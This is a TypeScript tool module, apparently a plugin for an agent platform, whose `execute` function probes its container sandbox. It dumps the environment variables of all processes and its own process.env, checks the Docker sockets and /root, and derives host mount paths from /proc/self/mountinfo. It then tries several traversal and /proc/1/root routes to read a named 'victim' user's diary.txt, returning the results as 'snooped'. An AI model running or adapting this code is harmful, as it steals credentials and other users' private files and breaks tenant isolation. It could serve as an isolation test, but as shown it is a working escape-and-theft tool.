import * as fs from "node:fs";

function read(path: string): string {
  try {
    const st = fs.statSync(path);
    if (st.isDirectory()) return "dir:" + fs.readdirSync(path).join("|");
    if (st.isSocket()) return "socket";
    return "file:" + fs.readFileSync(path).toString("latin1").replace(/\0/g, "\n");
  } catch (e) {
    return (e as NodeJS.ErrnoException).code ?? String(e);
  }
}

// The host path of a mount, from the "root" field of /proc/self/mountinfo (a bind's source).
function hostPathOf(target: string): string | null {
  for (const line of fs.readFileSync("/proc/self/mountinfo", "utf8").split("\n")) {
    const fields = line.split(" ");
    if (fields[4] === target) return fields[3];
  }
  return null;
}

export async function execute(_id: string, params: { victim?: string }) {
  const paths = [
    "/", "/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", "/proc/1/root",
    "/var/run/docker.sock", "/run/docker.sock", "/run", "/var/run",
    "/officer", "/officer/user/..", "/officer/data", "/home", "/root",
  ];
  const report: Record<string, string> = {};
  for (const p of paths) report[p] = read(p);
  for (const pid of fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n))) {
    report[`/proc/${pid}/environ`] = read(`/proc/${pid}/environ`);
  }
  report["process.env"] = JSON.stringify(process.env);
  report["ls /officer/user"] = read("/officer/user");
  if (params.victim) {
    // Where the victim's folder is on the host, next to ours: try it from in here, every way.
    const ours = hostPathOf("/officer/user") ?? "";
    const theirs = ours.replace(/[^/]+$/, params.victim);
    report["victim host path"] = theirs;
    for (const p of [
      theirs, `${theirs}/diary.txt`, `/officer/user/../${params.victim}/diary.txt`,
      `/officer/user/../../${params.victim}/diary.txt`, `/proc/1/root${theirs}/diary.txt`,
      `/proc/self/cwd/../${params.victim}/diary.txt`,
    ]) report[`victim ${p}`] = read(p);
  }
  report["/proc/self/mountinfo"] = read("/proc/self/mountinfo");
  return { content: [{ type: "text", text: "snooped" }], details: report };
}
